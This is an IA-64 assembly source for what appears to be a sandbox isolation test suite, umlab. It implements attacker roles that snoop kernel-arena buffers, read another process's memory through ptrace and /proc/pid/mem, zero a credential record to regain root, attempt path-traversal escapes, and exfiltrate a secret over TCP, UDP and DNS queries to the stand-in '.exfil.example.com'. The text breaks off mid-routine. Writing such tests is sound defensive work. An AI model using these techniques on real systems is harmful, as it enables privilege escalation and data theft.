// attacks-ia64.s -- the IA-64 twin of attacks.c (umlab isolation suite): the same roles, the
// same arguments, the same behaviour, in one self-contained file (no includes, no libc).
//
//   ia64-linux-gnu-as -o attacks.o attacks-ia64.s && ia64-linux-gnu-ld -o attacks.ia64 attacks.o
//   (or build-ia64.sh OUTDIR)
//
//   attacks ROLE [ARGS]
//
// Scenario roles (each forks and execs argv[0] with the roles it needs, so the attacker is a
// fresh program that never held the secret):
//   pipe-snoop SECRET     a victim pair passes SECRET through a pipe; then the attacker runs
//   file-snoop SECRET     a victim writes SECRET to a file in /tmp; then the attacker runs
//   private-peek SECRET   a victim keeps SECRET in its private memory only; the attacker runs
//                         while the victim is alive, as another user (uid 1000)
//   become-root SECRET    root writes SECRET to a root-only file; the attacker drops to uid
//                         1000 and tries to get back
//   kernel-read           the attacker reads the kernel's memory
//   host-escape PATH      the attacker tries to read PATH, a host file outside its root
//   outlive               the attacker leaves a process behind that tries to survive umlab
// Network attacks (the harness listens on the host and reports whatever reaches it):
//   net-reach PORT SECRET ADDR...   TCP connects and UDP datagrams carrying SECRET to the host's
//                         127.0.0.1, the gateway 10.0.2.2, public addresses and ADDRs, at PORT
//   net-bind PORT         listens on PORT (IPv4 and IPv6) for a while; the harness looks for it
//                         on the host
//   dns-exfil SECRET PORT ADDR...   DNS queries whose name carries SECRET, to umlab's answerer,
//                         to the gateway, to a public resolver and to ADDRs at 53 and PORT, and
//                         to the resolver the C library would ask
//   toctou DENIED-ADDR DENIED-PORT ALLOWED-ADDR ALLOWED-PORT   connects while a second thread
//                         (clone with CLONE_VM | CLONE_THREAD) flips the sockaddr between an
//                         allowed and a denied destination
// They print attacks.c's lines ("tcp A:P: connected, read ...", "listening on P: ipv4 yes,
// ipv6 yes", "dns A:P: answered, rcode R, N answers", "toctou: N connected, ..."); addresses
// are parsed as inet_pton does, except IPv6 with a dotted IPv4 tail (skipped).
// Victims: victim-pipe SECRET, victim-file SECRET, victim-private SECRET READYFD.
// Attackers: attack-kernel-read, attack-snoop-pipe, attack-snoop-io, attack-peek PID ADDR LEN,
// attack-root FILE.
//
// The one difference from the C version: where attacks.c catches SIGSEGV and siglongjmps, this
// program makes the risky access in a forked child and the parent prints
// "<what>: fault (signal N)" when the child was killed by a signal. become-root probes the
// kernel region (read and write back one byte) in a child first and, when that survives,
// zeroes its own credential record in the attacker process itself.
//
// What the attacker knows about umlab is the published layout of the kernel arena
// (Sources/GuestKernel/KernelArena.swift) and where TT mode maps it on IA-64: at
// 0x7fffffff_fe000000, the end of the user address range, 32 MiB, little-endian.
//
// Conventions: every routine is an IA-64 procedure (alloc, ar.pfs/b0 saved in loc0/loc1,
// br.ret); syscalls are break 0x100000 with r15 = 1024 + n, arguments in out0..out5, result
// in r8, r10 = -1 on error (r8 = errno). Output goes through a line buffer (flushed at each
// newline, before fork and at exit), so every line is one write(2).

        // Explicit mode whatever the command line says: the stops below are as written (gas's
        // default auto mode would regroup them, and pack instructions after a br.call into its
        // bundle, where they never run after the return).
        .explicit

        .set SYS_exit_group,    1236
        .set SYS_read,          1026
        .set SYS_write,         1027
        .set SYS_open,          1028
        .set SYS_close,         1029
        .set SYS_unlink,        1032
        .set SYS_execve,        1033
        .set SYS_chdir,         1034
        .set SYS_getpid,        1041
        .set SYS_setuid,        1045
        .set SYS_getuid,        1046
        .set SYS_geteuid,       1047
        .set SYS_ptrace,        1048
        .set SYS_kill,          1053
        .set SYS_pipe,          1058
        .set SYS_brk,           1060
        .set SYS_setgid,        1061
        .set SYS_setsid,        1081
        .set SYS_symlink,       1091
        .set SYS_wait4,         1126
        .set SYS_clone,         1128
        .set SYS_pread64,       1148
        .set SYS_nanosleep,     1168
        .set SYS_rt_sigaction,  1177
        .set SYS_process_vm_readv, 1332     // 1024 + 308 (Linux arch/ia64 syscall.tbl)
        .set SYS_exit,          1025
        .set SYS_mmap,          1151
        .set SYS_sched_yield,   1164
        .set SYS_socket,        1190
        .set SYS_bind,          1191
        .set SYS_connect,       1192
        .set SYS_listen,        1193
        .set SYS_sendto,        1199
        .set SYS_recv,          1200
        .set SYS_setsockopt,    1203

        .set SIGHUP, 1
        .set SIGKILL, 9
        .set SIGTERM, 15
        .set SIGCHLD, 17
        .set O_RDONLY, 0
        .set O_WRONLY_CREAT_TRUNC, 0x241
        .set MODE_0600, 0x180
        .set PTRACE_PEEKDATA, 2
        .set PTRACE_ATTACH, 16
        .set AF_INET, 2
        .set AF_INET6, 10
        .set SOCK_STREAM, 1
        .set SOCK_DGRAM, 2
        .set SOL_SOCKET, 1
        .set SO_RCVTIMEO, 20
        .set IPPROTO_IPV6, 41
        .set IPV6_V6ONLY, 26
        .set ENETUNREACH, 101
        // CLONE_VM | CLONE_FS | CLONE_FILES | CLONE_SIGHAND | CLONE_THREAD | CLONE_SYSVSEM:
        // what pthread_create asks for, less the TLS and tid words this program does not use
        .set CLONE_THREAD_FLAGS, 0x50f00

        // The kernel arena (KernelArena.swift) and where TT mode maps it on IA-64.
        .set KERNEL_REGION, 0x7ffffffffe000000
        .set ARENA_SIZE, 0x2000000
        .set RECORD_AREA, 0x1000
        .set RECORD_MAGIC, 0x524b4d55
        .set KIND_CREDENTIALS, 1
        .set KIND_PIPE, 2
        .set KIND_IO, 3

        .set OUTBUF_SIZE, 4096
        .set COPY_MAX, 0x100000             // largest payload copied (the I/O buffer is 1 MiB)
        .set PEEK_MAX, 256
        .set PATH_MAX, 4096

        // Operations run in a guarded child.
        .set OP_READ_HEADER, 1
        .set OP_SNOOP_PIPE, 2
        .set OP_SNOOP_IO, 3
        .set OP_PEEK_SAME, 4
        .set OP_PROBE_WRITE, 5

        .macro SYSCALL nr
        mov r15 = \nr
        ;;
        break.m 0x100000
        ;;
        .endm

        .macro CALL fn
        ;;
        br.call.sptk.many b0 = \fn
        ;;
        .endm

        .macro ENTER nin, nloc, nout
        alloc loc0 = ar.pfs, \nin, \nloc, \nout, 0
        mov loc1 = b0
        ;;
        .endm

        .macro LEAVE
        mov ar.pfs = loc0
        mov b0 = loc1
        ;;
        br.ret.sptk.many b0
        ;;
        .endm

        // out_str of a string literal (no '"' or '\' in it).
        .macro PUTS text
        .section .rodata
.Lputs\@: .asciz "\text"
        .previous
        movl out0 = .Lputs\@
        CALL out_str
        .endm

        // out_str / out_s64 / out_err of a register.
        .macro PUTR reg
        mov out0 = \reg
        CALL out_str
        .endm
        .macro PUTN reg
        mov out0 = \reg
        CALL out_s64
        .endm
        .macro PUTE reg
        mov out0 = \reg
        CALL out_err
        .endm
        .macro PUTC ch
        mov out0 = \ch
        CALL out_char
        .endm

        // In _start (argc in loc2, argv in loc3, the role in loc4): branch to target when the
        // role is `name` and argc > minargc.
        .macro ROLE name, minargc, target
        mov out0 = loc4
        movl out1 = \name
        CALL streq
        cmp.ne p6, p0 = 0, r8
        ;;
(p6)    cmp.lt p6, p0 = \minargc, loc2
        ;;
(p6)    br.cond.dpnt \target
        ;;
        .endm

        // reg = argv[i] (in _start)
        .macro ARGV reg, i
        adds r14 = 8 * \i, loc3
        ;;
        ld8 \reg = [r14]
        ;;
        .endm

// ---- data ----------------------------------------------------------------------------------

        .data
        .align 8
outfd:  data8 1
tsec:   data8 1, 0                      // nanosleep: 1 s
tdeci:  data8 0, 100000000              // nanosleep: 100 ms
sigign: data8 1, 0, 0                   // struct sigaction { SIG_IGN, flags 0, mask 0 }
tv300:  data8 0, 300000                 // SO_RCVTIMEO: 300 ms
one:    data4 1, 0                      // an int option's 1
// What net-reach tries before the addresses it is given (attacks.c's list).
reach_list: data8 s_lo4, s_lo6, s_gateway, s_dns_addr, s_public1, s_public2, s_public3, s_public6, 0

        .section .rodata
s_attacks:      .asciz "attacks"
s_victim_pipe:  .asciz "victim-pipe"
s_victim_file:  .asciz "victim-file"
s_victim_priv:  .asciz "victim-private"
s_pipe_snoop:   .asciz "pipe-snoop"
s_file_snoop:   .asciz "file-snoop"
s_private_peek: .asciz "private-peek"
s_become_root:  .asciz "become-root"
s_kernel_read:  .asciz "kernel-read"
s_a_kernel_read: .asciz "attack-kernel-read"
s_a_snoop_pipe: .asciz "attack-snoop-pipe"
s_a_snoop_io:   .asciz "attack-snoop-io"
s_a_peek:       .asciz "attack-peek"
s_a_root:       .asciz "attack-root"
s_host_escape:  .asciz "host-escape"
s_outlive:      .asciz "outlive"
s_net_reach:    .asciz "net-reach"
s_net_bind:     .asciz "net-bind"
s_dns_exfil:    .asciz "dns-exfil"
s_toctou:       .asciz "toctou"
s_lo4:          .asciz "127.0.0.1"
s_lo6:          .asciz "::1"
s_gateway:      .asciz "10.0.2.2"
s_dns_addr:     .asciz "10.0.2.3"
s_public1:      .asciz "8.8.8.8"
s_public2:      .asciz "1.1.1.1"
s_public3:      .asciz "192.0.2.1"
s_public6:      .asciz "2001:4860:4860::8888"
s_any4:         .asciz "0.0.0.0"
s_any6:         .asciz "::"
s_tcp:          .asciz "tcp "
s_udp:          .asciz "udp "
s_dns:          .asciz "dns "
s_sent:         .asciz ": sent\n"
s_colon:        .asciz ": "
s_yes:          .asciz "yes"
s_no:           .asciz "no"
s_resolv_conf:  .asciz "/etc/resolv.conf"
s_nameserver:   .asciz "nameserver"
s_exfil_suffix: .asciz ".exfil.example.com"
s_diary:        .asciz "/tmp/victim-diary"
s_root_only:    .asciz "/tmp/root-only"
s_escape:       .asciz "/tmp/escape"
s_escape2:      .asciz "/tmp/escape2"
s_dotdot:       .asciz ".."
s_empty:        .asciz ""
s_up7:          .asciz "/../../../../../../.."
s_self_root:    .asciz "/proc/self/root/../"
s_one_root:     .asciz "/proc/1/root"
s_up5:          .asciz "../../../../.."
s_proc:         .asciz "/proc/"
s_mem:          .asciz "/mem"
s_pipe_buffer:  .asciz "pipe buffer"
s_io_buffer:    .asciz "io buffer"
s_pvr:          .asciz "process_vm_readv"
s_procmem_l:    .asciz "/proc/<victim>/mem"
s_procmem:      .asciz "/proc/pid/mem"
s_ptrace_att:   .asciz "ptrace attach"
s_ptrace_peek:  .asciz "ptrace peek"
s_same_addr:    .asciz "same address here"
s_read_kernel:  .asciz "read kernel region"
s_scan_kernel:  .asciz "scan kernel buffers"
s_write_kernel: .asciz "write kernel region"
s_root_as_1000: .asciz "root-only file as uid 1000"
s_q_open:       .asciz ": \""
s_q_close:      .asciz "\"\n"
s_hdr:          .asciz "kernel region header: \""
s_rootfile_q:   .asciz "root-only file: \""
s_read_q:       .asciz ": read \""
s_ok:           .asciz "ok"
s_opened:       .asciz "opened"
s_succeeded:    .asciz "succeeded"

// strerror texts (glibc's) for the errors these attacks meet; others print "Unknown error N".
        .align 8
errtab: data8 1, e1, 2, e2, 3, e3, 5, e5, 9, e9, 10, e10, 11, e11, 12, e12, 13, e13, 14, e14
        data8 16, e16, 17, e17, 18, e18, 20, e20, 21, e21, 22, e22, 24, e24, 25, e25, 30, e30
        data8 36, e36, 38, e38, 40, e40, 95, e95, 4, e4, 32, e32, 90, e90, 93, e93, 97, e97
        data8 98, e98, 99, e99, 100, e100, 101, e101, 104, e104, 106, e106, 107, e107
        data8 110, e110, 111, e111, 113, e113, 115, e115, 0, 0
e1:  .asciz "Operation not permitted"
e2:  .asciz "No such file or directory"
e3:  .asciz "No such process"
e5:  .asciz "Input/output error"
e9:  .asciz "Bad file descriptor"
e10: .asciz "No child processes"
e11: .asciz "Resource temporarily unavailable"
e12: .asciz "Cannot allocate memory"
e13: .asciz "Permission denied"
e14: .asciz "Bad address"
e16: .asciz "Device or resource busy"
e17: .asciz "File exists"
e18: .asciz "Invalid cross-device link"
e20: .asciz "Not a directory"
e21: .asciz "Is a directory"
e22: .asciz "Invalid argument"
e24: .asciz "Too many open files"
e25: .asciz "Inappropriate ioctl for device"
e30: .asciz "Read-only file system"
e36: .asciz "File name too long"
e38: .asciz "Function not implemented"
e40: .asciz "Too many levels of symbolic links"
e95: .asciz "Operation not supported"
e4:  .asciz "Interrupted system call"
e32: .asciz "Broken pipe"
e90: .asciz "Message too long"
e93: .asciz "Protocol not supported"
e97: .asciz "Address family not supported by protocol"
e98: .asciz "Address already in use"
e99: .asciz "Cannot assign requested address"
e100: .asciz "Network is down"
e101: .asciz "Network is unreachable"
e104: .asciz "Connection reset by peer"
e106: .asciz "Transport endpoint is already connected"
e107: .asciz "Transport endpoint is not connected"
e110: .asciz "Connection timed out"
e111: .asciz "Connection refused"
e113: .asciz "No route to host"
e115: .asciz "Operation now in progress"

        .bss
        .align 16
outlen:     .skip 8
self_path:  .skip 8
envp_ptr:   .skip 8
status:     .skip 8
vargs:      .skip 48                    // argv for spawn: 5 pointers + NULL
iov_local:  .skip 16
iov_remote: .skip 16
hdrbuf:     .skip 16
numbuf:     .skip 32
pidstr:     .skip 32
fdstr:      .skip 32
lenstr:     .skip 32
msgbuf:     .skip 64
readbuf:    .skip 272
peekbuf:    .skip PEEK_MAX + 16
block:      .skip 1024
outbuf:     .skip OUTBUF_SIZE
pathbuf:    .skip PATH_MAX + 16
copybuf:    .skip COPY_MAX
sabuf:      .skip 32                    // a sockaddr_in or sockaddr_in6
v6words:    .skip 64                    // parse_ipv6's eight groups
race_addr:  .skip 32                    // toctou: what connect reads,
race_allowed: .skip 32                  // and the two values it takes
race_denied: .skip 32
race_done:  .skip 8
flipper_done: .skip 8
qlen:       .skip 8
qbuf:       .skip 512                   // a DNS query
namebuf:    .skip 256
dnsreply:   .skip 512

        .text

// ---- strings and numbers -------------------------------------------------------------------

// strlen(s) -> r8
        .align 32
        .proc strlen
strlen:
        alloc r2 = ar.pfs, 1, 0, 0, 0
        mov r8 = in0
        ;;
.Lsl_loop:
        ld1 r14 = [r8], 1
        ;;
        cmp.ne p6, p0 = 0, r14
(p6)    br.cond.sptk .Lsl_loop
        ;;
        sub r8 = r8, in0
        ;;
        adds r8 = -1, r8
        br.ret.sptk.many b0
        ;;
        .endp strlen

// streq(a, b) -> r8 = 1 when the strings are equal
        .proc streq
streq:
        alloc r2 = ar.pfs, 2, 0, 0, 0
        mov r14 = in0
        mov r16 = in1
        mov r8 = 0
        ;;
.Lse_loop:
        ld1 r17 = [r14], 1
        ld1 r18 = [r16], 1
        ;;
        cmp.ne p6, p0 = r17, r18
        cmp.eq p7, p0 = 0, r17
        ;;
(p6)    br.ret.dpnt.many b0
        ;;
(p7)    mov r8 = 1
(p7)    br.ret.dpnt.many b0
        br.cond.sptk .Lse_loop
        ;;
        .endp streq

// strrchr(s, c) -> r8 = address of the last c in s, or 0
        .proc strrchr
strrchr:
        alloc r2 = ar.pfs, 2, 0, 0, 0
        mov r14 = in0
        mov r8 = 0
        ;;
.Lsr_loop:
        ld1 r17 = [r14]
        ;;
        cmp.eq p6, p0 = r17, in1
        cmp.eq p7, p0 = 0, r17
        ;;
(p6)    mov r8 = r14
(p7)    br.ret.dpnt.many b0
        adds r14 = 1, r14
        br.cond.sptk .Lsr_loop
        ;;
        .endp strrchr

// concat(dst, a, b) -> r8 = the terminating NUL written after a and b (at most PATH_MAX - 1
// bytes are copied in all; dst must have PATH_MAX bytes)
        .proc concat
concat:
        alloc r2 = ar.pfs, 3, 0, 0, 0
        mov r8 = in0
        mov r14 = in1
        movl r16 = PATH_MAX - 1
        ;;
        add r16 = in0, r16              // last byte for the NUL
        ;;
.Lcc_a:
        ld1 r17 = [r14], 1
        cmp.ltu p7, p0 = r8, r16
        ;;
(p7)    cmp.ne p7, p0 = 0, r17
        ;;
(p7)    st1 [r8] = r17, 1
(p7)    br.cond.sptk .Lcc_a
        ;;
        mov r14 = in2
        ;;
.Lcc_b:
        ld1 r17 = [r14], 1
        cmp.ltu p7, p0 = r8, r16
        ;;
(p7)    cmp.ne p7, p0 = 0, r17
        ;;
(p7)    st1 [r8] = r17, 1
(p7)    br.cond.sptk .Lcc_b
        ;;
        st1 [r8] = r0
        br.ret.sptk.many b0
        ;;
        .endp concat

// parse_u64(s) -> r8: leading decimal digits of s
        .proc parse_u64
parse_u64:
        alloc r2 = ar.pfs, 1, 0, 0, 0
        mov r8 = 0
        mov r14 = in0
        ;;
.Lpu_loop:
        ld1 r16 = [r14], 1
        ;;
        adds r16 = -48, r16
        shladd r17 = r8, 2, r8          // 5v
        ;;
        cmp.ltu p6, p0 = 9, r16         // not a digit
        add r17 = r17, r17              // 10v
        ;;
(p6)    br.ret.dpnt.many b0
        add r8 = r17, r16
        br.cond.sptk .Lpu_loop
        ;;
        .endp parse_u64

// fmt_u64(buf, v) -> r8 = length; buf gets v in decimal and a NUL.
// Division by 10: multiply-high by 0xCCCCCCCCCCCCCCCD (xma.hu), shift right by 3.
        .proc fmt_u64
fmt_u64:
        alloc r2 = ar.pfs, 2, 0, 0, 0
        adds sp = -48, sp               // digits at sp+16 .. sp+47
        movl r14 = 0xCCCCCCCCCCCCCCCD
        ;;
        setf.sig f6 = r14
        adds r18 = 48, sp               // end of the digits
        mov r19 = in1
        ;;
        mov r20 = r18
        ;;
.Lfu_digit:
        setf.sig f7 = r19
        ;;
        xma.hu f8 = f7, f6, f0
        ;;
        getf.sig r21 = f8
        ;;
        shr.u r21 = r21, 3              // q = v / 10
        ;;
        shladd r22 = r21, 2, r21
        ;;
        add r22 = r22, r22              // 10q
        ;;
        sub r23 = r19, r22              // digit
        adds r20 = -1, r20
        mov r19 = r21
        ;;
        adds r23 = '0', r23
        cmp.ne p6, p0 = 0, r19
        ;;
        st1 [r20] = r23
(p6)    br.cond.sptk .Lfu_digit
        ;;
        sub r8 = r18, r20
        mov r24 = in0
        ;;
.Lfu_copy:
        ld1 r25 = [r20], 1
        ;;
        st1 [r24] = r25, 1
        cmp.ltu p6, p0 = r20, r18
        ;;
(p6)    br.cond.sptk .Lfu_copy
        ;;
        st1 [r24] = r0
        adds sp = 48, sp
        br.ret.sptk.many b0
        ;;
        .endp fmt_u64

// ---- buffered output ----------------------------------------------------------------------

// out_flush(): write the buffered bytes to outfd
        .proc out_flush
out_flush:
        ENTER 0, 3, 3
        movl loc2 = outlen
        movl r14 = outfd
        ;;
        ld8 out0 = [r14]
        movl out1 = outbuf
        ld8 out2 = [loc2]
        ;;
        cmp.eq p6, p0 = 0, out2
        ;;
(p6)    br.cond.dpnt .Lfl_done
        SYSCALL SYS_write
        st8 [loc2] = r0
.Lfl_done:
        LEAVE
        .endp out_flush

// out_char(c): append c; flush at a newline or when the buffer is full
        .proc out_char
out_char:
        ENTER 1, 2, 0
        movl r14 = outlen
        movl r16 = outbuf
        ;;
        ld8 r17 = [r14]
        ;;
        add r18 = r16, r17
        adds r17 = 1, r17
        mov r19 = OUTBUF_SIZE - 1
        ;;
        st1 [r18] = in0
        st8 [r14] = r17
        cmp.eq p6, p0 = 10, in0
        cmp.ltu p7, p0 = r19, r17       // full
        ;;
(p7)    cmp.eq p6, p0 = r0, r0
        ;;
(p6)    br.call.sptk.many b0 = out_flush
        ;;
        LEAVE
        .endp out_char

// out_str(s)
        .proc out_str
out_str:
        ENTER 1, 3, 1
        mov loc2 = in0
        ;;
.Los_loop:
        ld1 out0 = [loc2], 1
        ;;
        cmp.eq p6, p0 = 0, out0
        ;;
(p6)    br.cond.dpnt .Los_done
        CALL out_char
        br.cond.sptk .Los_loop
        ;;
.Los_done:
        LEAVE
        .endp out_str

// out_buf(p, n)
        .proc out_buf
out_buf:
        ENTER 2, 4, 1
        mov loc2 = in0
        add loc3 = in0, in1
        ;;
.Lob_loop:
        cmp.geu p6, p0 = loc2, loc3
        ;;
(p6)    br.cond.dpnt .Lob_done
        ld1 out0 = [loc2], 1
        CALL out_char
        br.cond.sptk .Lob_loop
        ;;
.Lob_done:
        LEAVE
        .endp out_buf

// out_s64(v): signed decimal
        .proc out_s64
out_s64:
        ENTER 1, 3, 2
        mov loc2 = in0
        cmp.lt p6, p0 = in0, r0
        ;;
(p6)    sub loc2 = r0, in0
(p6)    mov out0 = '-'
(p6)    br.call.sptk.many b0 = out_char
        ;;
        movl out0 = numbuf
        mov out1 = loc2
        CALL fmt_u64
        movl out0 = numbuf
        CALL out_str
        LEAVE
        .endp out_s64

// out_err(errno): glibc's strerror text, or "Unknown error N"
        .proc out_err
out_err:
        ENTER 1, 3, 1
        movl loc2 = errtab
        ;;
.Loe_loop:
        ld8 r14 = [loc2], 8
        ;;
        ld8 r16 = [loc2], 8
        cmp.eq p6, p0 = 0, r14
        cmp.eq p7, p0 = r14, in0
        ;;
(p6)    br.cond.dpnt .Loe_unknown
(p7)    br.cond.dpnt .Loe_found
        br.cond.sptk .Loe_loop
        ;;
.Loe_found:
        mov out0 = r16
        CALL out_str
        br.cond.sptk .Loe_done
        ;;
.Loe_unknown:
        PUTS "Unknown error "
        PUTN in0
.Loe_done:
        LEAVE
        .endp out_err

// report(label, err, oktext): "label: oktext" or "label: <strerror(err)>"
        .proc report
report:
        ENTER 3, 2, 1
        PUTR in0
        PUTS ": "
        cmp.eq p6, p0 = 0, in1
        mov out0 = in2
        ;;
(p6)    br.call.sptk.many b0 = out_str
        ;;
        cmp.ne p6, p0 = 0, in1
        mov out0 = in1
        ;;
(p6)    br.call.sptk.many b0 = out_err
        ;;
        PUTC 10
        LEAVE
        .endp report

// print_strings(label, p, n): every run of at least 8 printable bytes in [p, p+n) as
// label: "RUN"
        .proc print_strings
print_strings:
        ENTER 3, 5, 3
        mov loc2 = 0                    // i
        mov loc3 = 0                    // run
        mov loc4 = 0x7f
        ;;
.Lps_loop:
        cmp.ltu p6, p7 = loc2, in2      // i < n
        add r14 = in1, loc2
        ;;
(p6)    ld1 r16 = [r14]
(p7)    mov r16 = 0
        ;;
        cmp.ltu p8, p9 = 0x1f, r16      // >= 0x20
        ;;
(p8)    cmp.ltu p8, p9 = r16, loc4      // < 0x7f
        ;;
(p8)    adds loc3 = 1, loc3
(p8)    adds loc2 = 1, loc2
(p8)    br.cond.sptk .Lps_loop
        ;;
        cmp.lt p10, p0 = 7, loc3        // run >= 8
        ;;
(p10)   br.cond.dpnt .Lps_emit
        br.cond.sptk .Lps_next
        ;;
.Lps_emit:
        PUTR in0
        movl out0 = s_q_open
        CALL out_str
        add r14 = in1, loc2
        ;;
        sub out0 = r14, loc3
        mov out1 = loc3
        CALL out_buf
        movl out0 = s_q_close
        CALL out_str
.Lps_next:
        mov loc3 = 0
        cmp.ltu p6, p0 = loc2, in2
        ;;
(p6)    adds loc2 = 1, loc2
(p6)    br.cond.sptk .Lps_loop
        ;;
        LEAVE
        .endp print_strings

// ---- processes ----------------------------------------------------------------------------

// do_exit(status): flush and exit_group
        .proc do_exit
do_exit:
        ENTER 1, 2, 1
        CALL out_flush
        mov out0 = in0
        SYSCALL SYS_exit_group
        break.m 0
        ;;
        .endp do_exit

// fork() -> r8: child pid (parent), 0 (child), -1 (error)
        .proc fork
fork:
        ENTER 0, 2, 5
        CALL out_flush
        mov out0 = SIGCHLD
        mov out1 = 0
        mov out2 = 0
        mov out3 = 0
        mov out4 = 0
        SYSCALL SYS_clone
        cmp.ne p6, p0 = 0, r10
        ;;
(p6)    mov r8 = -1
        LEAVE
        .endp fork

// waitpid(pid) -> r8 = wait status, or -1
        .proc waitpid
waitpid:
        ENTER 1, 2, 4
        mov out0 = in0
        movl out1 = status
        mov out2 = 0
        mov out3 = 0
        SYSCALL SYS_wait4
        cmp.ne p6, p0 = 0, r10
        movl r14 = status
        ;;
        ld4 r8 = [r14]
        ;;
(p6)    mov r8 = -1
        LEAVE
        .endp waitpid

// set_args(a0, a1, a2, a3, a4) -> r8 = vargs = { a0, a1, a2, a3, a4, NULL } (the first 0
// ends the argument list)
        .proc set_args
set_args:
        alloc r2 = ar.pfs, 5, 0, 0, 0
        movl r8 = vargs
        ;;
        mov r14 = r8
        ;;
        st8 [r14] = in0, 8
        ;;
        st8 [r14] = in1, 8
        ;;
        st8 [r14] = in2, 8
        ;;
        st8 [r14] = in3, 8
        ;;
        st8 [r14] = in4, 8
        ;;
        st8 [r14] = r0
        br.ret.sptk.many b0
        ;;
        .endp set_args

// spawn(argv) -> r8 = pid of a child that execs argv[0] of this program with argv
        .proc spawn
spawn:
        ENTER 1, 2, 3
        CALL fork
        cmp.eq p6, p0 = 0, r8
        ;;
(p6)    br.cond.dpnt .Lsp_child
        LEAVE
.Lsp_child:
        movl r14 = self_path
        movl r16 = envp_ptr
        ;;
        ld8 out0 = [r14]
        mov out1 = in0
        ld8 out2 = [r16]
        SYSCALL SYS_execve
        mov out0 = 127
        SYSCALL SYS_exit_group
        .endp spawn

// run_attacker(argv) -> r8 = its exit status, or 128 + signal
        .proc run_attacker
run_attacker:
        ENTER 1, 2, 1
        mov out0 = in0
        CALL spawn
        mov out0 = r8
        CALL waitpid
        and r14 = 0x7f, r8
        extr.u r16 = r8, 8, 8
        ;;
        cmp.eq p6, p7 = 0, r14
        ;;
(p6)    mov r8 = r16
(p7)    adds r8 = 128, r14
        LEAVE
        .endp run_attacker

// guarded(op, what, a0, a1) -> r8 = 0, or -1 when the child doing `op` died of a signal
// ("what: fault (signal N)" printed)
        .proc guarded
guarded:
        ENTER 4, 4, 3
        CALL fork
        cmp.eq p6, p0 = 0, r8
        mov loc2 = r8
        ;;
(p6)    br.cond.dpnt .Lg_child
        mov out0 = loc2
        CALL waitpid
        and loc3 = 0x7f, r8
        ;;
        cmp.eq p6, p0 = 0, loc3         // exited
        cmp.eq p7, p0 = 0x7f, loc3      // stopped
        ;;
(p6)    br.cond.sptk .Lg_ok
(p7)    br.cond.sptk .Lg_ok
        ;;
        PUTR in1
        PUTS ": fault (signal "
        PUTN loc3
        PUTS ")\n"
        mov r8 = -1
        br.cond.sptk .Lg_ret
        ;;
.Lg_ok:
        mov r8 = 0
.Lg_ret:
        LEAVE

.Lg_child:
        cmp.eq p6, p0 = OP_READ_HEADER, in0
        cmp.eq p7, p0 = OP_SNOOP_PIPE, in0
        cmp.eq p8, p0 = OP_SNOOP_IO, in0
        cmp.eq p9, p0 = OP_PEEK_SAME, in0
        cmp.eq p10, p0 = OP_PROBE_WRITE, in0
        ;;
(p6)    br.cond.dpnt .Lg_header
(p7)    br.cond.dpnt .Lg_pipe
(p8)    br.cond.dpnt .Lg_io
        ;;
(p9)    br.cond.dpnt .Lg_peek
(p10)   br.cond.dpnt .Lg_probe
        br.cond.sptk .Lg_exit
        ;;
.Lg_header:
        CALL read_header
        br.cond.sptk .Lg_exit
        ;;
.Lg_pipe:
        mov out0 = 0
        mov out1 = KIND_PIPE
        CALL walk
        br.cond.sptk .Lg_exit
        ;;
.Lg_io:
        mov out0 = 0
        mov out1 = KIND_IO
        CALL walk
        br.cond.sptk .Lg_exit
        ;;
.Lg_peek:
        movl out0 = s_same_addr
        mov out1 = in2
        mov out2 = in3
        CALL print_strings
        br.cond.sptk .Lg_exit
        ;;
.Lg_probe:
        CALL probe_write
.Lg_exit:
        mov out0 = 0
        CALL do_exit
        .endp guarded

// ---- the kernel arena ----------------------------------------------------------------------

// read_header(): kernel region header: "XXXXXXXX" (non-printable bytes as '.')
        .proc read_header
read_header:
        ENTER 0, 5, 1
        movl r14 = KERNEL_REGION
        movl loc2 = hdrbuf
        ;;
        ld8 r16 = [r14]                 // faults unless the kernel is mapped here
        ;;
        st8 [loc2] = r16
        adds loc3 = 8, loc2
        mov loc4 = 0x7f
        movl out0 = s_hdr
        CALL out_str
.Lrh_loop:
        ld1 out0 = [loc2], 1
        ;;
        cmp.ltu p6, p7 = 0x1f, out0     // >= 0x20
        ;;
(p6)    cmp.ltu p6, p7 = out0, loc4     // < 0x7f
        ;;
(p7)    mov out0 = '.'
        CALL out_char
        cmp.ltu p6, p0 = loc2, loc3
        ;;
(p6)    br.cond.sptk .Lrh_loop
        ;;
        movl out0 = s_q_close
        CALL out_str
        LEAVE
        .endp read_header

// probe_write(): read one byte of the kernel region and write it back
        .proc probe_write
probe_write:
        alloc r2 = ar.pfs, 0, 0, 0, 0
        movl r14 = KERNEL_REGION
        ;;
        ld1 r16 = [r14]
        ;;
        st1 [r14] = r16
        br.ret.sptk.many b0
        ;;
        .endp probe_write

// walk(mode, kind): walks the arena's records, stopping at the first non-record.
//   mode 0: snoop_record each record of `kind`
//   mode 1: zero the payload of this process's credential record
        .proc walk
walk:
        ENTER 2, 11, 3
        SYSCALL SYS_getpid
        mov loc9 = r8                   // pid
        movl loc2 = KERNEL_REGION
        mov loc3 = RECORD_AREA          // at
        movl loc4 = ARENA_SIZE
        movl loc5 = RECORD_MAGIC
        ;;
.Lw_loop:
        adds r14 = 16, loc3
        add loc6 = loc2, loc3           // header
        ;;
        cmp.ltu p6, p0 = loc4, r14      // at + 16 > size
        ;;
(p6)    br.cond.dpnt .Lw_done
        ld4 r16 = [loc6]
        adds r17 = 4, loc6
        adds r18 = 8, loc6
        adds r19 = 12, loc6
        ;;
        ld2 loc7 = [r17]                // kind
        ld4 r20 = [r18]                 // owner
        ld4 loc8 = [r19]                // payload length
        cmp.ne p6, p0 = r16, loc5
        ;;
(p6)    br.cond.dpnt .Lw_done
        mov loc10 = r20
        cmp.eq p7, p0 = 0, in0
        ;;
(p7)    cmp.eq p7, p0 = loc7, in1
        ;;
(p7)    mov out0 = loc6
(p7)    mov out1 = loc7
(p7)    mov out2 = loc8
        ;;
(p7)    br.call.sptk.many b0 = snoop_record
        ;;
        cmp.eq p8, p0 = 1, in0
        ;;
(p8)    cmp.eq p8, p0 = KIND_CREDENTIALS, loc7
        ;;
(p8)    cmp4.eq p8, p0 = loc10, loc9    // owner == getpid()
        ;;
(p8)    cmp.ltu p8, p0 = 31, loc8       // len >= 32
        ;;
(p8)    adds r14 = 16, loc6
(p8)    adds r16 = 24, loc6
(p8)    adds r17 = 32, loc6
(p8)    adds r18 = 40, loc6
        ;;
(p8)    st8 [r14] = r0                  // uid euid | suid fsuid | gid egid | sgid fsgid
(p8)    st8 [r16] = r0
(p8)    st8 [r17] = r0
